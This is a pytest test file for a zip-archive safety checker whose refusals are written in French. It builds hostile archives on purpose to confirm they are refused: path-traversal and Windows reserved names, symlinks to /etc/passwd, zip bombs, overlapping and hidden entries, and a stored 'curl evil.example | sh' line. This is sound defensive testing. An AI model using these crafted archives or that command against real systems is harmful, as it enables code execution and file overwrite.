"""Unsafe zips are refused with a French message naming the member at fault.

Every archive is built here with the zipfile module; hostile ones are crafted by writing odd
names or attributes, or by patching the bytes of a well-formed archive.
"""

from __future__ import annotations

import io
import os
import stat
import struct
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from messagerie.models.rules.zipcheck import (
    DEFAULT_LIMITS,
    ZipLimits,
    ZipMember,
    ZipRefused,
    extract_member,
    inspect_zip,
    locate_zip,
)
from tests.helpers.examples import examples
from tests.helpers.zips import (
    central_records,
    hide_entry,
    make_zip,
    streamed_zip,
    weasyprint_pdf,
    with_records,
)

DCE_FILES = {
    "AE_P_JLT20240229-1_L01-02.pdf": b"%PDF-1.7\nacte d'engagement\n" * 40,
    "CCAP_JLT20240229-1.pdf": b"%PDF-1.7\ncahier des clauses\n" * 60,
    "RC_P_JLT20240229-1.pdf": b"%PDF-1.7\nreglement de consultation\n" * 30,
}


def patch_flags(data: bytes, set_bits: int = 0, clear_bits: int = 0) -> bytes:
    """Change the general-purpose flags of every member, in local and central headers."""
    patched = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = patched.find(signature)
        while start != -1:
            (flags,) = struct.unpack_from("<H", patched, start + offset)
            struct.pack_into("<H", patched, start + offset, (flags | set_bits) & ~clear_bits)
            start = patched.find(signature, start + 4)
    return bytes(patched)


def refusal(data: bytes, limits: ZipLimits = DEFAULT_LIMITS) -> ZipRefused:
    with pytest.raises(ZipRefused) as caught:
        inspect_zip(data, limits)
    return caught.value


def test_a_good_dce_zip_is_listed_without_its_directories():
    members = [("DCE/", b""), *((f"DCE/{name}", data) for name, data in DCE_FILES.items())]
    listed = inspect_zip(make_zip(members))
    assert listed == tuple(
        ZipMember(path=f"DCE/{name}", size=len(data)) for name, data in DCE_FILES.items()
    )


def test_extract_member_returns_the_exact_bytes():
    data = make_zip(DCE_FILES)
    for name, content in DCE_FILES.items():
        assert extract_member(data, name) == content
    with pytest.raises(ZipRefused, match=r"ne contient pas de fichier « absent\.pdf »"):
        extract_member(data, "absent.pdf")


def test_french_names_are_read_whatever_the_tool_wrote():
    utf8_flagged = make_zip({"Règlement de consultation.pdf": b"%PDF-"})
    utf8_unflagged = patch_flags(utf8_flagged, clear_bits=0x800)
    windows = make_zip({"R?glement.pdf": b"%PDF-"}).replace(b"R?glement", b"R\x8aglement")
    assert inspect_zip(utf8_flagged)[0].path == "Règlement de consultation.pdf"
    assert inspect_zip(utf8_unflagged)[0].path == "Règlement de consultation.pdf"
    assert inspect_zip(windows)[0].path == "Règlement.pdf"
    assert extract_member(utf8_unflagged, "Règlement de consultation.pdf") == b"%PDF-"


UNSAFE_PATHS = [  # refused whatever system unpacks them
    ("../evil.txt", "remonte dans l'arborescence"),
    ("DCE/../../evil.txt", "remonte dans l'arborescence"),
    ("/etc/passwd", "chemin absolu"),
    ("C:\\x", "barre oblique inverse"),
    ("C:/Windows/evil.dll", "lettre de lecteur"),
    ("DCE\\..\\..\\evil.txt", "barre oblique inverse"),
    ("DCE//evil.txt", "chemin mal formé"),
    ("./evil.txt", "chemin mal formé"),
    ("evil\x1b[2J.pdf", "caractère de contrôle"),
]


def test_a_nul_byte_hiding_the_real_extension_is_refused():
    """zipfile cuts names at NUL ("evil.pdf"); the archive is refused all the same."""
    data = make_zip({"evil.pdf_.exe": b"MZ"}).replace(b"evil.pdf_.exe", b"evil.pdf\x00.exe")
    error = refusal(data)
    assert error.member == "evil.pdf\x00.exe"
    assert error.message.startswith("« evil.pdf\\x00.exe » contient un caractère de contrôle")


def test_a_symbolic_link_is_refused():
    link = zipfile.ZipInfo("CCAP.pdf")
    link.create_system = 3
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    error = refusal(make_zip([(link, b"/etc/passwd")]))
    assert error.message.startswith("« CCAP.pdf » est un lien symbolique")


def test_a_device_or_fifo_member_is_refused():
    fifo = zipfile.ZipInfo("pipe")
    fifo.create_system = 3
    fifo.external_attr = (stat.S_IFIFO | 0o644) << 16
    assert "n'est pas un fichier ordinaire" in refusal(make_zip([(fifo, b"")])).message


def test_an_encrypted_member_is_refused():
    data = patch_flags(make_zip({"RC.pdf": b"%PDF-secret"}), set_bits=0x1)
    error = refusal(data)
    assert error.member == "RC.pdf"
    assert "chiffré" in error.message


def test_bzip2_and_lzma_members_are_refused():
    for method, label in ((zipfile.ZIP_BZIP2, "bzip2"), (zipfile.ZIP_LZMA, "LZMA")):
        error = refusal(make_zip({"RC.pdf": b"%PDF-"}, method=method))
        assert f"méthode de compression non acceptée ({label})" in error.message


def test_duplicate_names_are_refused_even_by_case_or_accents():
    assert "figure deux fois" in refusal(make_zip([("RC.pdf", b"1"), ("RC.pdf", b"2")])).message
    assert refusal(make_zip([("RC.pdf", b"1"), ("rc.PDF", b"2")])).member == "rc.PDF"
    composed, decomposed = "Pi\u00e8ce.pdf", "Pie\u0300ce.pdf"
    assert refusal(make_zip([(composed, b"1"), (decomposed, b"2")])).member == decomposed


def test_a_zip_bomb_is_refused_early():
    bomb = make_zip({"RC.pdf": b"%PDF-", "bombe.bin": bytes(50 * 1024**2)})
    assert len(bomb) < 100 * 1024
    error = refusal(bomb)
    assert error.member == "bombe.bin"
    assert "plus de 100 fois sa taille" in error.message


def test_small_very_compressible_files_are_not_taken_for_bombs():
    listed = inspect_zip(make_zip({"espaces.txt": b" " * 500_000}))
    assert listed == (ZipMember("espaces.txt", 500_000),)


def test_total_uncompressed_size_is_measured_against_the_limit():
    members = {f"piece_{n}.bin": os.urandom(600) for n in range(3)}
    error = refusal(make_zip(members), ZipLimits(max_total_uncompressed=1000))
    assert error.member == "piece_1.bin"
    assert "taille totale décompressée autorisée (1000 octets)" in error.message


def test_member_size_is_measured_against_the_limit():
    error = refusal(make_zip({"gros.bin": os.urandom(5000)}), ZipLimits(max_member_size=4096))
    assert error.member == "gros.bin"
    assert "taille maximale d'un fichier" in error.message


def test_too_many_members_are_refused():
    members = {f"piece_{n}.txt": b"x" for n in range(4)}
    error = refusal(make_zip(members), ZipLimits(max_members=3))
    assert error.member == "piece_3.txt"
    assert "4 éléments, la limite est de 3" in error.message
    assert inspect_zip(make_zip(members), ZipLimits(max_members=4))


def test_default_member_count_limit():
    members = {f"q{n}.txt": b"" for n in range(1001)}
    assert "1001 éléments, la limite est de 1000" in refusal(make_zip(members)).message


def test_not_a_zip_at_all_is_refused():
    error = refusal(b"%PDF-1.7\nthis is no archive\n")
    assert error.message.startswith("Ce fichier n'est pas une archive zip lisible")
    assert error.member is None
    assert refusal(b"").member is None


def test_a_truncated_archive_is_refused():
    data = make_zip(DCE_FILES)
    for cut in (len(data) // 2, len(data) - 10, 30):
        assert "n'est pas une archive zip lisible" in refusal(data[:cut]).message


def test_corrupt_compressed_bytes_are_refused_naming_the_member():
    data = bytearray(make_zip({"CCAP.pdf": os.urandom(4000)}))
    data[60:90] = bytes(30)
    error = refusal(bytes(data))
    assert error.member == "CCAP.pdf"
    assert "l'archive est corrompue" in error.message


def test_a_bad_crc_is_refused():
    name = "RC.pdf"
    data = bytearray(make_zip({name: b"%PDF-1.7 original content"}, method=zipfile.ZIP_STORED))
    data[30 + len(name) + 10] ^= 0xFF  # one byte of the stored content
    error = refusal(bytes(data))
    assert error.member == name
    assert "CRC-32" in error.message


def test_sizes_announced_by_the_headers_are_not_trusted():
    """A central directory that understates a member's size cannot smuggle more bytes."""
    data = bytearray(make_zip({"RC.pdf": os.urandom(5000)}))
    central = data.find(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 24, 10)  # uncompressed size: 10 bytes
    error = refusal(bytes(data))
    assert error.member == "RC.pdf"
    assert "corrompue" in error.message


# --- Names that Windows reads otherwise ---------------------------------------------------


WINDOWS_NAMES = [
    (".. /.. /evil.bat", "que Windows lit comme « . » ou « .. »"),
    ("... /x", "que Windows lit comme « . » ou « .. »"),
    ("DCE/ ./x.pdf", "que Windows lit comme « . » ou « .. »"),
    ("\uff0e\uff0e/x", "remonte dans l'arborescence"),  # full-width dots
    ("DCE/\u2025/x", "remonte dans l'arborescence"),  # "‥", two dots in one character
    ("\uff0e\uff0e\uff0fevil.bat", "remonte dans l'arborescence"),  # full-width slash too
    ("rc.pdf:Zone.Identifier", "flux caché du fichier (NTFS)"),
    ("CCAP?.pdf", "un caractère interdit dans les noms Windows"),
    ("CON", "nom réservé par Windows"),
    ("prn.txt", "nom réservé par Windows"),
    ("DCE/Aux.pdf", "nom réservé par Windows"),
    ("NUL .pdf", "nom réservé par Windows"),
    ("COM1.docx", "nom réservé par Windows"),
    ("LPT9", "nom réservé par Windows"),
    ("COM\u00b9.txt", "nom réservé par Windows"),  # "COM¹", which Windows reserves too
    ("RC.pdf.", "finit par un point ou une espace"),
    ("RC.pdf ", "finit par un point ou une espace"),
]


@pytest.mark.parametrize(("name", "reason"), UNSAFE_PATHS + WINDOWS_NAMES)
def test_unsafe_names_are_refused_naming_the_member(name, reason):
    error = refusal(make_zip([("RC.pdf", b"%PDF-"), (name, b"owned")]))
    assert reason in error.message
    assert error.member == name
    shown = name.replace("\x1b", "\\x1b")  # control characters are printed escaped
    assert error.message.startswith(f"« {shown} » ")
    assert error.message.endswith(".")


def test_a_name_that_windows_would_merge_with_another_is_refused():
    for twin in ("a.txt.", "a.txt "):
        error = refusal(make_zip([("a.txt", b"1"), (twin, b"2")]))
        assert error.member == twin
        assert "Windows les supprime, et ce fichier en écraserait un autre" in error.message


def test_a_file_and_a_folder_of_the_same_name_are_refused():
    for members in ([("Annexes", b"1"), ("annexes/BPU.pdf", b"2")], [("a/b", b"1"), ("A", b"2")]):
        error = refusal(make_zip(members))
        assert "font d'un même nom un fichier et un dossier" in error.message


def test_ordinary_french_names_are_accepted():
    names = [
        "DCE/1 - Règlement de la consultation (RC).pdf",
        "DCE/Annexe n°2 – BPU + DQE [v2].xlsx",
        "DCE/.config/réglages.txt",
        "Console.pdf",  # CON only as a whole stem
        "COM10.txt",
        "lisez-moi",
    ]
    listed = inspect_zip(make_zip([(name, b"x") for name in names]))
    assert [member.path for member in listed] == names


# --- The layout: one archive, every byte accounted for -------------------------------------


def test_a_local_entry_missing_from_the_central_directory_is_refused():
    """`jar x` walks the local headers: it would extract evil.sh and 50 MB that unzip -l and
    zipfile never list."""
    archive = make_zip(
        [
            ("RC.pdf", b"%PDF-1.7 reglement"),
            ("evil.sh", b"#!/bin/sh\ncurl evil.example | sh\n"),
            ("zeros.bin", bytes(50 * 1024**2)),
            ("CCAP.pdf", b"%PDF-1.7 cahier"),
        ]
    )
    hidden = hide_entry(hide_entry(archive, "evil.sh"), "zeros.bin")
    assert zipfile.ZipFile(io.BytesIO(hidden)).namelist() == ["RC.pdf", "CCAP.pdf"]
    error = refusal(hidden)
    assert error.member == "evil.sh"
    assert error.message.startswith(
        "« evil.sh » est dans l'archive sans figurer dans son répertoire central"
    )
    assert refusal(hide_entry(archive, "zeros.bin")).member == "zeros.bin"


def test_a_hidden_first_entry_is_refused():
    archive = hide_entry(make_zip([("evil.bat", b"@echo off"), ("RC.pdf", b"%PDF-")]), "evil.bat")
    assert refusal(archive).member == "evil.bat"


def test_two_entries_sharing_their_bytes_are_refused():
    """Overlapping entries (the "better zip bomb"): two names for one compressed kernel."""
    archive = make_zip([("RC.pdf", b"%PDF-1.7 " + bytes(1000))])
    offset, (record,) = central_records(archive)
    twin = record[:46] + b"RD.pdf" + record[52:]
    error = refusal(with_records(archive, offset, [record, twin]))
    assert error.member == "RD.pdf"
    assert "partage ses données avec « RC.pdf »" in error.message


def test_a_local_header_that_disagrees_with_the_directory_is_refused():
    data = bytearray(make_zip({"RC.pdf": b"%PDF-1.7 " + os.urandom(500)}, zipfile.ZIP_STORED))
    struct.pack_into("<2L", data, 18, 100, 100)  # the local header says 100 bytes
    error = refusal(bytes(data))
    assert error.member == "RC.pdf"
    assert "n'a pas la même taille dans son en-tête local et dans le répertoire central" in (
        error.message
    )
    renamed = make_zip({"RC.pdf": b"%PDF-"}).replace(b"RC.pdf", b"RX.pdf", 1)
    assert "porte un autre nom dans son en-tête local" in refusal(renamed).message


def test_bytes_hidden_after_a_deflate_stream_are_refused():
    """The compressed bytes end before their entry does: a streaming reader would take what
    follows for another entry."""
    archive = make_zip({"RC.pdf": b"%PDF-1.7 " + bytes(5000)})
    offset, (record,) = central_records(archive)
    extra = b"PK\x03\x04 hidden"
    compressed = struct.unpack_from("<L", record, 20)[0] + len(extra)
    patched = record[:20] + struct.pack("<L", compressed) + record[24:]
    local = bytearray(archive[:offset])
    struct.pack_into("<L", local, 18, compressed)
    error = refusal(with_records(bytes(local) + extra, offset + len(extra), [patched]))
    assert error.member == "RC.pdf"
    assert "est suivi de données cachées dans l'archive" in error.message


@pytest.mark.parametrize("prefix", [b"\x00", b"MZ" + bytes(62), b"%PDF-1.7\n%%EOF\n"])
def test_bytes_before_the_archive_are_refused(prefix):
    archive = prefix + make_zip(DCE_FILES)
    assert locate_zip(archive).start == len(prefix)  # zip tools open it all the same
    error = refusal(archive)
    assert error.message.startswith(f"{len(prefix)} octet")
    assert "précèdent l'archive" in error.message


def test_bytes_after_the_archive_are_refused():
    archive = make_zip(DCE_FILES) + weasyprint_pdf("caché")
    assert "d'autres données suivent la fin de l'archive" in refusal(archive).message


def test_archives_written_to_a_stream_or_with_zip64_fields_or_a_comment_are_accepted():
    members = {"RC.pdf": b"%PDF-1.7 " + os.urandom(3000), "Lisez-moi.txt": b"Bonjour\n" * 99}
    expected = tuple(ZipMember(name, len(data)) for name, data in members.items())
    assert inspect_zip(streamed_zip(members)) == expected  # sizes after the data (bit 3)
    assert inspect_zip(streamed_zip(members, zip64=True)) == expected
    assert inspect_zip(make_zip(members, comment=b"DCE v2 du 12/03")) == expected


def test_archives_in_archives_share_one_budget():
    """The bytes decompressed by nested archives count together (see filetype)."""
    from messagerie.models.rules.zipcheck import Budget, CheckedZip

    budget, limits = Budget(), ZipLimits(max_nested_uncompressed=10_000)
    archive = make_zip({"a.bin": os.urandom(6000)})
    list(CheckedZip(archive, limits, budget).contents())
    with pytest.raises(ZipRefused, match="archives contenues les unes dans les autres"):
        list(CheckedZip(archive, limits, budget).contents())


# --- Any input: an answer or a French refusal, never a crash ---------------------------------


@settings(max_examples=examples(300), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.text(max_size=40).filter(lambda n: "\x00" not in n), min_size=1, max_size=6))
def test_any_member_names_are_listed_or_refused(names):
    """(A NUL in a name: test_a_nul_byte_hiding_the_real_extension_is_refused.)"""
    try:
        listed = inspect_zip(make_zip([(name or "vide", name.encode()) for name in names]))
    except ZipRefused as refused:
        assert refused.message.endswith(".")
    else:
        assert len(listed) <= len(names)


@settings(max_examples=examples(400), deadline=None)
@given(st.data())
def test_any_damage_to_an_archive_is_refused_or_harmless(data):
    archive = bytearray(
        data.draw(st.sampled_from([make_zip(DCE_FILES), streamed_zip(DCE_FILES)]), "archive")
    )
    for _ in range(data.draw(st.integers(1, 4), "changes")):
        position = data.draw(st.integers(0, len(archive) - 1), "position")
        archive[position : position + 4] = data.draw(
            st.sampled_from([b"PK\x03\x04", b"PK\x05\x06", b"\xff\xff\xff\xff", b"\x00"])
            | st.binary(min_size=1, max_size=4),
            "bytes",
        )
    try:
        inspect_zip(bytes(archive))
    except ZipRefused as refused:
        assert refused.message.endswith(".")
